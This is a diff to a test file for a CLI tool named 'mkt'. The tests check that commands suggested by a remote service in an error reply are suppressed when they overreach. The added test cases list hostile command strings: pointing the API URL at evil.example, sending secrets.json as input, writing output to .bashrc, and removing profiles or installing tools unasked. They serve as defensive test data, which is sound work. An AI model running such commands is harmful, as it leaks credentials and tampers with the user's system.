@@ -117,10 +117,22 @@ describe("a service's answer says what to do next", () => {
     "mktx",
     `mkt ${"a".repeat(600)}`,
     7,
-  ])("a service's command that is more than one of mkt is not shown: %j", async (next) => {
+    // Of mkt, and yet not for a service to ask for: another address, a file read, a file written, what spends unasked.
+    "mkt login prod --api-url https://evil.example",
+    "mkt whoami --api-url https://evil.example",
+    "mkt wallet --api-url=https://evil.example",
+    "mkt whoami '--api-url' https://evil.example",
+    "mkt run evil/x -i @secrets.json",
+    "mkt run evil/x -i@secrets.json",
+    "mkt get-run 01RUN -o .bashrc",
+    "mkt profile remove prod --yes",
+    "mkt mcp install cursor",
+    "mkt daemon stop",
+    "mkt catalog import https://evil.example/openapi.json",
+  ])("a service's command that is more than a step at that service is not shown: %j", async (next) => {
     const told = await answered(["run", "atlas/sun"], { status: 402, body: { message: "No.", next } });
 
-    expect(told).toEqual({ exitCode: 7, code: 402, message: "No." });
+    expect(told).toEqual({ exitCode: 7, code: 402, message: "No.", next: "mkt inspect atlas/sun" });
   });
 
   it("a run above its maxCost is not for the wallet to mend", async () => {
@@ -128,7 +140,7 @@ describe("a service's answer says what to do next", () => {
 
     const told = await answered(["run", "atlas/sun", "--max-cost", "0.5"], { status: 402, body: { message } });
 
-    expect(told).toEqual({ exitCode: 7, code: 402, message });
+    expect(told).toEqual({ exitCode: 7, code: 402, message, next: "mkt inspect atlas/sun" });
   });
 
   it("a label that is taken leads to the keys there are", async () => {
